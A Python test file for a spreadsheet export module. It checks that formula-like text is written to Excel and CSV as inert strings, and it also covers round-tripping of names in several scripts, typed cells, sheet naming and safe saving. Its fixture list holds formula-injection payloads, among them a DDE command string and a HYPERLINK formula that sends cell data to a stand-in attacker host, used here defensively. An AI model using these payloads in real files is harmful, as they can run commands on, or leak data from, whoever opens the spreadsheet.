"""Excel and CSV out: formula injection made harmless (reliability anchors 55-56, E16;
OWASP ASVS 1.2.10), typed cells, names in every script round-tripping exactly, and
saving that never leaves half a file."""

from __future__ import annotations

import os
import re
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st
from openpyxl.utils.escape import unescape as openpyxl_unescape
from python_calamine import CalamineWorkbook

from cypdesk.common.errors import SaveFailed
from cypdesk.io import xlsx
from cypdesk.io.xlsx import Sheet, read_csv, sheet_name, write_csv, write_xlsx

NASTY = [
    "=1+1",
    '=HYPERLINK("http://x")',
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+44 7700 900123",
    "-5",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\0=1+1",
    "=cmd|' /C calc'!A0",
]
NAMES = ["Siân Llŷr", "Łukasz Wąsik", "فاطمہ", "Zoë O'Brien", "Mărioara Ionescu", "Søren Ødegård", "Dr Ayşe Yılmaz"]


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def _calamine(path, sheet=0):
    return CalamineWorkbook.from_path(str(path)).get_sheet_by_index(sheet).to_python()


def _openpyxl(path):
    wb = openpyxl.load_workbook(path)
    return wb, wb.worksheets[0]


# --- formula injection ------------------------------------------------------------------

def test_text_that_looks_like_a_formula_is_a_string_cell_and_reads_back_exactly(tmp_path):
    path = tmp_path / "nasty.xlsx"
    write_xlsx(path, [Sheet("Services", ["Name", "Note"], [(text, text) for text in NASTY])])
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    rows = _calamine(path)
    assert [r[0] for r in rows[1:]] == NASTY
    _wb, ws = _openpyxl(path)
    got = [ws.cell(row=r, column=1) for r in range(2, len(NASTY) + 2)]
    assert all(c.data_type == "s" for c in got)
    # openpyxl leaves Excel's _xHHHH_ escapes of control characters undecoded; decoded, exact.
    assert [openpyxl_unescape(c.value) for c in got] == NASTY
    assert [c.value for c in got][:7] == NASTY[:7]
    # Excel keeps them text even when the cell is edited: the quote-prefix style.
    assert all(c.quotePrefix for c in got)
    assert not ws.cell(row=1, column=1).quotePrefix


def test_csv_puts_a_quote_in_front_of_formula_like_text_and_has_a_bom(tmp_path):
    path = tmp_path / "nasty.csv"
    write_csv(path, ["Name", "=Header"], [(text, 1) for text in NASTY] + [("plain", -5)])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    text = raw[3:].decode("utf-8")
    assert text.startswith("Name,'=Header\r\n")
    assert "'=1+1,1\r\n" in text and "'+44 7700 900123,1\r\n" in text and "'-5,1\r\n" in text
    assert "'@SUM(A1),1\r\n" in text and "'\t=1+1,1\r\n" in text
    assert "\"'\r=1+1\",1\r\n" in text  # a CR inside a cell: quoted (RFC 4180)
    assert "'\0=1+1,1\r\n" in text
    assert "plain,-5\r\n" in text, "numbers are not text: no quote in front of -5"
    rows = list(read_csv(path))
    assert rows[0] == ["Name", "=Header"]
    assert [r[0] for r in rows[1:-1]] == NASTY


def test_csv_quoting_follows_rfc_4180(tmp_path):
    path = tmp_path / "quotes.csv"
    values = ['Smith, Jones & Co', 'She said "no"', "two\nlines", "trailing space ", "'already quoted", "'=1+1"]
    write_csv(path, ["Text"], [(v,) for v in values])
    body = path.read_bytes()[3:].decode("utf-8")
    assert body == ('Text\r\n"Smith, Jones & Co"\r\n"She said ""no"""\r\n"two\nlines"\r\n'
                    "trailing space \r\n'already quoted\r\n''=1+1\r\n")
    assert [r[0] for r in read_csv(path)][1:] == values


DANGEROUS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\0"])
# U+FFFE and U+FFFF are not characters XML can hold; Excel cannot store them either.
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\ufffe\uffff"), max_size=30)
RISKY = st.builds(lambda p, t: p + t, DANGEROUS, TEXT)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.one_of(RISKY, TEXT), min_size=1, max_size=8))
def test_any_text_round_trips_through_xlsx_and_never_becomes_a_formula(tmp_path, texts):
    path = tmp_path / "h.xlsx"
    write_xlsx(path, [Sheet("T", ["Text"], [(t,) for t in texts])])
    assert "<f>" not in _sheet_xml(path)
    rows = _calamine(path)
    got = [r[0] for r in rows[1:]]
    # An empty string is an empty cell; calamine pads short columns with "".
    assert got == texts


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(texts=st.lists(st.one_of(RISKY, TEXT), min_size=1, max_size=8))
def test_any_text_round_trips_through_csv_with_dangerous_text_quoted(tmp_path, texts):
    path = tmp_path / "h.csv"
    write_csv(path, ["Text"], [(t,) for t in texts])
    with open(path, encoding="utf-8-sig", newline="") as fh:
        import csv

        raw = [row[0] if row else "" for row in csv.reader(fh)][1:]
    for original, written in zip(texts, raw):
        assert not xlsx.is_dangerous(written)
        if xlsx.is_dangerous(original) or xlsx.is_dangerous(original.lstrip("'")):
            assert written == "'" + original  # "'=x" gets one more quote, so it reads back as itself
        else:
            assert written == original
    assert [r[0] if r else "" for r in read_csv(path)][1:] == texts


# --- every script -------------------------------------------------------------------------

def test_welsh_polish_and_urdu_names_round_trip(tmp_path):
    xpath, cpath = tmp_path / "names.xlsx", tmp_path / "names.csv"
    write_xlsx(xpath, [Sheet("Pobl – People", ["Name"], [(n,) for n in NAMES])])
    write_csv(cpath, ["Name"], [(n,) for n in NAMES])
    assert [r[0] for r in _calamine(xpath)[1:]] == NAMES
    _wb, ws = _openpyxl(xpath)
    assert ws.title == "Pobl – People"
    assert [ws.cell(row=r, column=1).value for r in range(2, len(NAMES) + 2)] == NAMES
    assert cpath.read_bytes().startswith(b"\xef\xbb\xbf")
    assert cpath.read_bytes()[3:].decode("utf-8").splitlines()[1:] == NAMES
    assert [r[0] for r in read_csv(cpath)][1:] == NAMES


# --- typed cells and layout ---------------------------------------------------------------

def test_money_percent_dates_and_yes_no(tmp_path):
    path = tmp_path / "typed.xlsx"
    rows = [
        ("Family hub", 480_000.0, 60.0, date(2026, 4, 1), datetime(2026, 3, 15, 9, 30), True, 12, "2027-03-31"),
        ("Speech and language", 1_250_000.5, "40%", "2025-04-01", "2026-03-15 10:00:00.123456", False, None, None),
        ("Debt advice", -1_234.0, 33.33, None, None, None, 3, "not a date"),
    ]
    kinds = ["text", "money", "percent", "date", "datetime", "bool", "integer", "date"]
    headers = ["Service", "Annual cost", "Share", "Start", "Changed", "Prevention", "Places", "End"]
    result = write_xlsx(path, [Sheet("Services", headers, rows, kinds)])
    assert result["sheets"] == [{"name": "Services", "rows": 3}] and result["truncated"] == 0
    _wb, ws = _openpyxl(path)
    assert [c.value for c in ws[1]] == headers
    assert all(c.font.b for c in ws[1]) and not ws["A2"].font.b
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:H4"
    b2, c2, d2, e2, f2 = ws["B2"], ws["C2"], ws["D2"], ws["E2"], ws["F2"]
    assert (b2.value, b2.data_type, b2.number_format) == (480_000, "n", "£#,##0")
    assert ws["B3"].value == 1_250_000.5 and ws["B4"].value == -1_234
    assert (c2.value, c2.number_format) == (60, '0.0"%"') and ws["C3"].value == 40 and ws["C4"].value == 33.33
    assert (d2.value, d2.number_format) == (datetime(2026, 4, 1), "dd/mm/yyyy")
    assert ws["D3"].value == datetime(2025, 4, 1)
    assert (e2.value, e2.number_format) == (datetime(2026, 3, 15, 9, 30), "dd/mm/yyyy hh:mm")
    assert (f2.value, ws["F3"].value, ws["F4"].value) == ("Yes", "No", None)
    assert ws["G2"].value == 12 and ws["G3"].value is None
    assert ws["H2"].value == datetime(2027, 3, 31) and ws["H4"].value == "not a date"
    cal = _calamine(path)
    assert cal[1][3] == date(2026, 4, 1)
    widths = {k: v.width for k, v in ws.column_dimensions.items()}
    assert widths["A"] > len("Speech and language") and widths["B"] >= len("Annual cost")


def test_numbers_have_uk_thousands_separators(tmp_path):
    """Integer and number columns are shown the UK way (issue 9 item 14): whole numbers
    ``#,##0`` (1,200), others with their decimals (61.25, 1,234.5); the cell's value is
    the number itself, and a number in a text column stays General."""
    path = tmp_path / "numbers.xlsx"
    rows = [(1200, 61.25, 7, "a"), (3, 1234.5, 1_000_000, "b"), (None, 12.0, 2.0, 99)]
    write_xlsx(path, [Sheet("N", ["Places", "Rate", "Count", "Text"], rows, ["integer", "number", "number", "text"])])
    _wb, ws = _openpyxl(path)
    assert (ws["A2"].value, ws["A2"].number_format) == (1200, "#,##0")
    assert (ws["B2"].value, ws["B2"].number_format) == (61.25, "#,##0.0#########")
    assert (ws["B3"].value, ws["B3"].number_format) == (1234.5, "#,##0.0#########")
    assert (ws["B4"].value, ws["B4"].number_format) == (12, "#,##0")  # a whole number: no dangling point
    assert (ws["C3"].value, ws["C3"].number_format) == (1_000_000, "#,##0")
    assert (ws["D4"].value, ws["D4"].number_format) == (99, "General")


def test_several_sheets_with_legal_unique_names(tmp_path):
    path = tmp_path / "multi.xlsx"
    long = "Children's services register: North/South [draft] *final*?"
    write_xlsx(path, [Sheet(long, ["A"], [(1,)]), Sheet(long, ["A"], [(2,)]), ("history", ["A"], [])])
    wb = openpyxl.load_workbook(path)
    names = wb.sheetnames
    assert names[0] == "Children's services register- N" and len(names[0]) == 31
    assert names[1] == "Children's services registe (2)" and len(names[1]) == 31
    assert names[2] == "History (table)"
    assert wb.worksheets[2].max_row == 1, "an empty table still has its header"


@pytest.mark.parametrize(("given", "expected"), [
    ("Services", "Services"),
    ("a/b\\c?d*e:f[g]h", "a-b-c-d-e-f-g-h"),
    ("'quoted'", "quoted"),
    ("", "Sheet"),
    ("   ", "Sheet"),
    ("HISTORY", "History (table)"),
    ("x" * 40, "x" * 31),
    ("tab\there", "tabhere"),
])
def test_sheet_names(given, expected):
    assert sheet_name(given) == expected


def test_sheet_names_are_unique_without_regard_to_case():
    assert sheet_name("services", ["Services"]) == "services (2)"
    assert sheet_name("Services", ["Services", "Services (2)"]) == "Services (3)"


def test_very_long_text_is_cut_to_excels_limit_and_counted(tmp_path):
    path = tmp_path / "long.xlsx"
    result = write_xlsx(path, [Sheet("T", ["Text"], [("x" * 40_000,), ("short",)])])
    assert result["truncated"] == 1
    assert len(_calamine(path)[1][0]) == 32_767


# --- saving -------------------------------------------------------------------------------

def _leftovers(folder):
    return [p.name for p in folder.iterdir() if p.name.startswith(".~export-")]


def test_a_file_open_in_excel_is_a_plain_message_and_the_old_file_stays(tmp_path, monkeypatch):
    target = tmp_path / "services.xlsx"
    target.write_bytes(b"the old export")

    def refuse(src, dst):
        raise PermissionError(13, "Permission denied", str(dst))

    monkeypatch.setattr(xlsx.os, "replace", refuse)
    with pytest.raises(SaveFailed) as caught:
        write_xlsx(target, [Sheet("S", ["A"], [("x",)])])
    assert caught.value.message == "services.xlsx is open in another program (Excel?); close it and export again."
    assert caught.value.path == str(target)
    with pytest.raises(SaveFailed, match=re.escape("services.csv is open in another program (Excel?)")):
        write_csv(tmp_path / "services.csv", ["A"], [("x",)])
    assert target.read_bytes() == b"the old export"
    assert _leftovers(tmp_path) == []


def test_an_error_from_the_rows_leaves_no_file_and_the_old_one_untouched(tmp_path):
    class Cancelled(Exception):
        pass

    def rows():
        yield ("one",)
        yield ("two",)
        raise Cancelled

    with pytest.raises(Cancelled):
        write_xlsx(tmp_path / "new.xlsx", [Sheet("S", ["A"], rows())])
    with pytest.raises(Cancelled):
        write_csv(tmp_path / "new.csv", ["A"], rows())
    old = tmp_path / "old.xlsx"
    old.write_bytes(b"keep me")
    with pytest.raises(Cancelled):
        write_xlsx(old, [Sheet("S", ["A"], rows())])
    assert old.read_bytes() == b"keep me"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["old.xlsx"]


def test_a_missing_folder_is_a_plain_message(tmp_path):
    with pytest.raises(SaveFailed, match="does not exist"):
        write_xlsx(tmp_path / "nowhere" / "x.xlsx", [Sheet("S", ["A"], [])])
    with pytest.raises(SaveFailed, match="is a folder"):
        write_csv(tmp_path, ["A"], [])


def test_the_writer_streams_in_constant_memory(tmp_path):
    assert xlsx.XLSX_OPTIONS == {"constant_memory": True, "strings_to_formulas": False, "strings_to_urls": False,
                                 "strings_to_numbers": False}
    consumed = []

    def rows():
        for i in range(3):
            consumed.append(i)
            yield (f"row {i}", "https://example.org", "00123")
        assert os.path.exists(tmp_path) and consumed == [0, 1, 2]

    write_xlsx(tmp_path / "s.xlsx", [Sheet("S", ["A", "B", "C"], rows())])
    cal = _calamine(tmp_path / "s.xlsx")
    assert cal[1] == ["row 0", "https://example.org", "00123"], "no links, no numbers made of text"
    assert "<hyperlink" not in _sheet_xml(tmp_path / "s.xlsx")
